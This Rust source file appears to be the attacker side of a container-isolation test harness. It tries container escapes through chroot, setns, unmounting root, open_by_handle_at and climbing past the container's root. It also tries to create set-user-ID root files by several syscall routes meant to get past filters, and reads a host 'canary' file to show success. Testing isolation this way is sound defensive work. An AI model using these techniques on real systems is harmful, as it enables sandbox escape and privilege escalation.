//! Ways through the file tree. Where one leads the host sees for itself, by a handle: a name proves nothing.

use super::numbers::combined;
use super::{Argument, Attacker, Failed, unless_refused};
use crate::host::Opened;
use nix::errno::Errno;
use nix::libc::{self, c_int, c_long};
use nix::sys::stat::fstat;
use std::fs;
use std::os::fd::AsRawFd;

/// `UMOUNT_NOFOLLOW`: include/linux/fs.h.
const UMOUNT_NOFOLLOW: c_int = 8;

/// Bits that are no flags of open(2), which passes over them.
pub const NO_FLAGS: [i32; 6] = [1 << 25, 1 << 26, 1 << 27, 1 << 28, 1 << 29, 1 << 30];

/// More directories than this lie above one another in no container's way up.
const MAX_DEPTH: usize = 256;

/// Not in libc yet; the same number on every architecture.
const SYS_FCHMODAT2: c_long = 452;

/// The calls that make a set-user-ID file.
pub const CHMODS: &[c_long] = &[
    libc::SYS_openat,
    libc::SYS_openat2,
    libc::SYS_fchmod,
    libc::SYS_fchmodat,
    #[cfg(target_arch = "x86_64")]
    libc::SYS_chmod,
    SYS_FCHMODAT2,
];

/// Where a descriptor stands: device, inode, and the mount (proc_pid_fdinfo(5)).
pub type Place = (u64, u64, u64);

impl Attacker<'_> {
    /// chroot(2).
    ///
    /// # Errors
    /// Here and below: see [`Hand::call`](super::Hand::call).
    pub fn chroot(&mut self, path: &str) -> Result<(), Failed> {
        self.call("chroot", libc::SYS_chroot, [Argument::text(path)]).map(drop)
    }

    /// setns(2).
    pub fn setns(&mut self, descriptor: c_int, kinds: c_int) -> Result<(), Failed> {
        self.call("setns", libc::SYS_setns, [descriptor.into(), kinds.into()]).map(drop)
    }

    /// umount2(2).
    pub fn umount(&mut self, path: &str, flags: c_int) -> Result<(), Failed> {
        self.call("umount2", libc::SYS_umount2, [Argument::text(path), flags.into()]).map(drop)
    }

    /// umount2(2), with one set of flags after another: see [`Attacker::with_each`].
    pub fn unmount(&mut self, path: &str) -> Result<(), Failed> {
        let more = [libc::MNT_FORCE, UMOUNT_NOFOLLOW];
        let at_once = combined(&more).map(|more| libc::MNT_DETACH | more).chain(combined(&more));
        // This one succeeds at the second time, and not with those above.
        let twice = [libc::MNT_EXPIRE, libc::MNT_EXPIRE | UMOUNT_NOFOLLOW];
        self.with_each(at_once.chain(twice), |me, flags| match me.umount(path, flags) {
            Err(Failed::Refused(Errno::EAGAIN)) if flags & libc::MNT_EXPIRE != 0 => me.umount(path, flags),
            done => done,
        })
    }

    /// Takes off what is mounted at its root, and goes to the root of its mount namespace by a handle of that. Whether it
    /// could.
    pub fn uncovers_root(&mut self, namespace: c_int) -> Result<bool, Failed> {
        let uncovered = self.unmount("/").and_then(|()| self.setns(namespace, libc::CLONE_NEWNS));
        match uncovered {
            Ok(()) => Ok(true),
            Err(Failed::Refused(_)) => Ok(false),
            Err(other) => Err(other),
        }
    }

    /// open_by_handle_at(2): opens what a handle names, on the file system of a descriptor.
    pub fn open_by_handle(&mut self, on: c_int, handle: Vec<u8>, flags: c_int) -> Result<c_int, Failed> {
        let harmless =
            [libc::O_CLOEXEC, libc::O_NONBLOCK, libc::O_NOCTTY, libc::O_NOFOLLOW, libc::O_LARGEFILE];
        let flags = self.varied(&[flags | libc::O_CLOEXEC, flags], &[&harmless[..], &NO_FLAGS].concat());
        self.with_each(flags, |me, flags| {
            let arguments = [on.into(), Argument::Bytes(handle.clone()), flags.into()];
            Ok(me.call("open_by_handle_at", libc::SYS_open_by_handle_at, arguments)?.value as c_int)
        })
    }

    /// fchmod(2).
    pub fn fchmod(&mut self, file: c_int, mode: u32) -> Result<(), Failed> {
        self.call("fchmod", libc::SYS_fchmod, [file.into(), mode.into()]).map(drop)
    }

    /// fchmodat(2).
    pub fn fchmodat(&mut self, path: &str, mode: u32) -> Result<(), Failed> {
        let arguments = [libc::AT_FDCWD.into(), Argument::text(path), mode.into()];
        self.call("fchmodat", libc::SYS_fchmodat, arguments).map(drop)
    }

    /// chmod(2), where that is another call than fchmodat(2), and fchmodat2(2) (Linux 6.6).
    fn chmod_otherwise(&mut self, path: &str, mode: u32) -> Result<(), Failed> {
        #[cfg(target_arch = "x86_64")]
        match self.call("chmod", libc::SYS_chmod, [Argument::text(path), mode.into()]) {
            Err(failed) if failed.forbids() => {}
            done => return done.map(drop),
        }
        let arguments = [libc::AT_FDCWD.into(), Argument::text(path), mode.into(), 0.into()];
        self.call("fchmodat2", SYS_FCHMODAT2, arguments).map(drop)
    }

    /// Makes a second file, of this mode from the start, by openat(2) or by openat2(2), whose mode no filter can read. Its name
    /// ends as the first one's.
    fn make_with_mode(&mut self, path: &str, mode: u32) -> Result<c_int, Failed> {
        let (directory, name) = path.rsplit_once('/').unwrap_or((".", path));
        let path = || Argument::text(format!("{directory}/second-{name}"));
        let (here, flags) = (libc::AT_FDCWD, libc::O_WRONLY | libc::O_CREAT | libc::O_CLOEXEC);
        let made = self.call("openat", libc::SYS_openat, [here.into(), path(), flags.into(), mode.into()]);
        if !made.as_ref().is_err_and(Failed::forbids) {
            return Ok(made?.value as c_int);
        }
        let how = [flags as u64, mode.into(), 0].map(u64::to_ne_bytes).concat();
        let size = how.len() as i64;
        let arguments = [here.into(), path(), Argument::Bytes(how), size.into()];
        Ok(self.call("openat2", libc::SYS_openat2, arguments)?.value as c_int)
    }

    /// Makes a file that it has open a set-user-ID file: with fchmod(2), or by its path, or a second one in the same place. That
    /// it is one, the host sees. One that is not root's is first given to root, which who is not root may do with CAP_CHOWN alone.
    pub fn set_setuid(&mut self, file: c_int, path: &str) -> Result<(), Failed> {
        self.show(file)?;
        let is_roots = |it: &Opened| self.given("root-uid").parse() == Ok(it.uid);
        if !self.opened.last().is_some_and(is_roots) {
            unless_refused(self.give_to_root(file, path))?;
        }
        let modes = self.varied(&[0o4755, 0o4700], &[1, 2, 4, 8, 16, 32, 1 << 16, 1 << 20, 1 << 24, 1 << 28]);
        let mut refused = Ok(());
        for way in 0..4 {
            let mut file = file;
            let done = self.with_each(modes.clone(), |me, mode| match way {
                0 => me.fchmod(file, mode as u32),
                1 => me.fchmodat(path, mode as u32),
                2 => me.chmod_otherwise(path, mode as u32),
                // openat2(2) takes no mode that is none.
                _ => me.make_with_mode(path, mode as u32 & 0o7777).map(|made| file = made),
            });
            match done {
                Ok(()) => {
                    self.show(file)?;
                    if self.opened.last().is_some_and(|it| it.mode & libc::S_ISUID != 0) {
                        return Ok(());
                    }
                    refused = self.gives_up("the call succeeded, and the file has no set-user-ID bit");
                }
                Err(Failed::Refused(errno)) => refused = refused.and(Err(Failed::Refused(errno))),
                Err(other) => return Err(other),
            }
        }
        refused
    }

    /// fchown(2), or fchownat(2).
    fn give_to_root(&mut self, file: c_int, path: &str) -> Result<(), Failed> {
        match self.call("fchown", libc::SYS_fchown, [file.into(), 0.into(), 0.into()]) {
            Err(Failed::Refused(_)) => {}
            done => return done.map(drop),
        }
        let arguments = [libc::AT_FDCWD.into(), Argument::text(path), 0.into(), 0.into(), 0.into()];
        self.call("fchownat", libc::SYS_fchownat, arguments).map(drop)
    }

    /// pidfd_open(2) of itself.
    pub fn pidfd_of_itself(&mut self) -> Result<c_int, Failed> {
        let own = self.call("getpid", libc::SYS_getpid, [])?.value;
        Ok(self.call("pidfd_open", libc::SYS_pidfd_open, [own.into(), 0.into()])?.value as c_int)
    }

    /// Its root directory, and where that is. Not to be had is no refusal.
    pub fn root(&mut self) -> Result<(c_int, Place), Failed> {
        let root = self.look("/").map_err(Failed::in_preparation)?;
        Ok((root, self.place(root)?))
    }

    /// Where a descriptor of its stands.
    pub fn place(&mut self, descriptor: c_int) -> Result<Place, Failed> {
        let file = self.hand.duplicate(descriptor)?;
        let unknown = || Failed::GaveUp("the host could not see where a descriptor stands".into());
        let status = fstat(&file).map_err(|_| unknown())?;
        let about = fs::read_to_string(format!("/proc/self/fdinfo/{}", file.as_raw_fd()));
        let about = about.map_err(|_| unknown())?;
        let mount = about.lines().find_map(|line| line.strip_prefix("mnt_id:")?.trim().parse::<u64>().ok());
        Ok((status.st_dev, status.st_ino, mount.ok_or_else(unknown)?))
    }

    /// Whether a directory is there, and not where `place` is.
    pub fn is_elsewhere(&mut self, path: &str, place: Place) -> Result<bool, Failed> {
        let descriptor = match self.open(path, libc::O_PATH | libc::O_DIRECTORY) {
            Ok(descriptor) => descriptor,
            Err(Failed::Refused(_)) => return Ok(false),
            Err(other) => return Err(other),
        };
        let there = self.place(descriptor)?;
        self.close(descriptor)?;
        Ok(there != place)
    }

    /// Follows `..` until it leads nowhere new, and returns a descriptor of the top.
    pub fn climb(&mut self, from: c_int) -> Result<c_int, Failed> {
        let directory = libc::O_PATH | libc::O_DIRECTORY;
        let mut at = self.open_stake_at(from, ".", directory)?;
        let mut place = self.place(at)?;
        for _ in 0..MAX_DEPTH {
            let above = self.above(at)?;
            self.close(at)?;
            let there = self.place(above)?;
            if there == place {
                return Ok(above);
            }
            (at, place) = (above, there);
        }
        self.gives_up("there is no end to the directories above it")
    }

    /// The directory above an open one: opened, or where that is refused, gone to.
    fn above(&mut self, at: c_int) -> Result<c_int, Failed> {
        let directory = libc::O_PATH | libc::O_DIRECTORY;
        let opened = self.open_stake_at(at, "..", directory);
        if !matches!(opened, Err(Failed::Refused(_))) {
            return opened;
        }
        match unless_refused(self.step_up(at))? {
            Some(above) => Ok(above),
            // What refuses is told by the last call.
            None => self.open_at(at, "..", directory),
        }
    }

    /// Goes to the directory above an open one, opens it as its working directory, and goes back.
    fn step_up(&mut self, at: c_int) -> Result<c_int, Failed> {
        let before = self.here()?;
        let above = self
            .go_to(at)
            .and_then(|()| self.call("chdir", libc::SYS_chdir, [Argument::text("..")]))
            .and_then(|_| self.open_stake(".", libc::O_PATH | libc::O_DIRECTORY));
        unless_refused(self.go_to(before))?;
        self.close(before)?;
        above
    }

    /// Takes the host's canary: one file of two in the host's tree, for root and for everybody, who may be all that is left
    /// of root. Each place, the top of a tree, is empty or ends with a slash. What is found is gone by: it may be another.
    pub fn take_canary(&mut self, directory: c_int, places: &[&str]) -> Result<(), Failed> {
        self.take_one_of_two(directory, places, self.given("canary"))
    }

    /// The same of two files of this name, of which the second's ends with `.open`.
    pub fn take_one_of_two(&mut self, directory: c_int, places: &[&str], name: &str) -> Result<(), Failed> {
        let (mut taken, mut refused) = (false, Ok(()));
        for place in places {
            for end in ["", ".open"] {
                match self.open_stake_at(directory, &format!("{place}{name}{end}"), libc::O_RDONLY) {
                    Ok(file) => {
                        taken = true;
                        self.take(file)?;
                        self.close(file)?;
                    }
                    Err(Failed::Refused(errno)) => refused = Err(Failed::Refused(errno)),
                    Err(other) => return Err(other),
                }
            }
        }
        if taken { Ok(()) } else { refused }
    }

    /// Whether a place is on the file system of the host's root directory.
    fn is_on_hosts_root(&self, (device, ..): Place) -> bool {
        self.given("root-device").parse().is_ok_and(|hosts: u64| device == hosts)
    }

    /// Climbs from a directory, and takes the canary at the top, or where else below it the host's tree is mounted. That there
    /// is none refuses only where the climb ended at `root`, where the attacker has been from the start, or on a file system
    /// that is not the host's.
    pub fn take_canary_above(&mut self, from: c_int, root: Place) -> Result<(), Failed> {
        let top = self.climb(from)?;
        let place = self.place(top)?;
        // The host reads in the mount table where; only who stands at the root of that finds them so.
        for name in self.given("canary-at").lines() {
            if unless_refused(self.take_one_of_two(top, &[""], name))?.is_some() {
                return Ok(());
            }
        }
        match self.take_canary(top, &[""]) {
            Err(Failed::Refused(Errno::ENOENT)) if place != root && self.is_on_hosts_root(place) => {
                self.gives_up("it left its root directory, and found no canary where it came")
            }
            taken => taken,
        }
    }
}
